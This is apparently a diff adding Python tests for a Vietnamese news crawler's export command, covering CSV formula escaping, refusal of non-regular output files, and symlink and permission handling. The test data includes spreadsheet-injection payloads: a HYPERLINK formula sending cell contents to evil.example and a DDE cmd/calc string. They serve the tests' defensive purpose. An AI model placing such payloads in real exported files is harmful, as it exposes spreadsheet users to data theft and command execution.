@@ -372,3 +372,99 @@ def test_api_export_of_a_missing_index_is_404_not_a_cut_file(es_url) -> None:
         answer = httpx.get(f"{base}/api/export", params={"format": "csv"}, timeout=60)
     assert answer.status_code == 404
     assert "content-disposition" not in answer.headers
+
+
+FORMULAS = {  # what a third party can put in a title, lead or body, and the cell Excel gets
+    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây") ma túy': "'=HYPERLINK(",
+    "@SUM(1+1) lừa đảo": "'@SUM(1+1)",
+    "+cmd|' /C calc'!A0": "'+cmd|",
+    "-2+3 tiêu đề": "'-2+3",
+}
+
+
+def test_csv_cells_that_start_like_a_formula_are_text_in_excel(es_url, tmp_path: Path) -> None:
+    from crawler.web.app import create_app
+
+    name = f"test-formula-{uuid.uuid4().hex[:8]}"
+    titles = list(FORMULAS)
+    docs = [
+        article_document(Article(
+            id=f"f-{n}", url=f"https://congan.sonla.gov.vn/tin/f{n}.html", source="site",
+            site="sonla", province="Sơn La", title=title, lead=titles[(n + 1) % len(titles)],
+            authors=[titles[(n + 2) % len(titles)]],
+            body=["- Ngày 12/3, Công an huyện bắt giữ 2 đối tượng.", "Đoạn hai."],
+            published=f"2024-0{n + 1}-01T08:00:00+07:00",
+        ))
+        for n, title in enumerate(titles)
+    ]  # fmt: skip
+    with Elasticsearch(es_url) as client:
+        ensure_index(client, name)
+        assert not [r for _, r in bulk_index(client, name, docs) if r]
+        client.indices.refresh(index=name)
+    env = {**os.environ, "ES_URL": es_url, "ES_INDEX": name}
+    target = tmp_path / "out.csv"
+    assert run_cli("export", "-o", str(target), env=env).returncode == 0
+    with served(create_app(Elasticsearch(es_url), name)) as base:
+        api = {fmt: httpx.get(f"{base}/api/export", params={"format": fmt}, timeout=60)
+               for fmt in ("csv", "jsonl")}  # fmt: skip
+    assert csv_rows(api["csv"].content) == csv_rows(target.read_bytes())
+    rows = [dict(zip(HEADER, r, strict=True)) for r in csv_rows(target.read_bytes())[1:]]
+    assert len(rows) == len(FORMULAS)
+    for r in rows:
+        for column in ("title", "lead", "authors"):
+            assert r[column][:1] == "'", (column, r[column])
+            assert any(r[column].startswith(shown) for shown in FORMULAS.values()), r[column]
+            assert r[column][1:] in FORMULAS
+        # A Vietnamese list item (a dash, then a space) is not a formula: kept as written.
+        assert r["body"].startswith("- Ngày 12/3, Công an")
+        assert r["id"].startswith("f-")
+    # JSONL keeps the values as they are.
+    assert {r["title"] for r in jsonl_rows(api["jsonl"].content)} == set(FORMULAS)
+    drop_alias(es_url, name)
+
+
+@pytest.mark.parametrize("kind", ["folder", "fifo", "device"])
+def test_an_output_that_is_not_a_regular_file_is_refused_untouched(env, tmp_path, kind) -> None:
+    import stat
+
+    target = tmp_path / f"out-{kind}.csv"
+    if kind == "folder":
+        target.mkdir()
+    elif kind == "fifo":
+        os.mkfifo(target)
+    else:  # a copy of /dev/full, never the real one: an old version renamed over it
+        if os.geteuid() != 0:
+            pytest.skip("making a device needs root")
+        os.mknod(target, 0o666 | stat.S_IFCHR, os.makedev(1, 7))
+    before = os.stat(target)
+    result = run_cli("export", "-o", str(target), env=env)
+    assert result.returncode == 2
+    [line] = result.stderr.splitlines()
+    assert str(target) in line
+    assert "-o -" in line
+    after = os.stat(target)
+    assert (after.st_mode, after.st_ino, after.st_rdev) == (
+        before.st_mode, before.st_ino, before.st_rdev)  # fmt: skip
+    assert sorted(p.name for p in tmp_path.iterdir()) == [target.name]
+
+
+def test_a_symlink_is_followed_and_a_private_file_stays_private(env, tmp_path: Path) -> None:
+    real = tmp_path / "real" / "target.csv"
+    real.parent.mkdir()
+    real.write_text("old")
+    os.chmod(real, 0o600)
+    link = tmp_path / "link.csv"
+    link.symlink_to(real)
+    result = run_cli("export", "ma túy", "--province", "Thái Bình", "-o", str(link), env=env)
+    assert result.returncode == 0, result.stderr
+    assert link.is_symlink()
+    assert os.readlink(link) == str(real)
+    assert len(csv_rows(real.read_bytes())) == 1 + 411
+    assert os.stat(real).st_mode & 0o777 == 0o600
+    assert sorted(p.name for p in real.parent.iterdir()) == ["target.csv"]  # no .part left
+    # A file that did not exist gets the umask's mode, as any new file.
+    fresh = tmp_path / "fresh.csv"
+    assert run_cli("export", "zzzkhongco", "-o", str(fresh), env=env).returncode == 0
+    umask = os.umask(0)
+    os.umask(umask)
+    assert os.stat(fresh).st_mode & 0o777 == 0o666 & ~umask
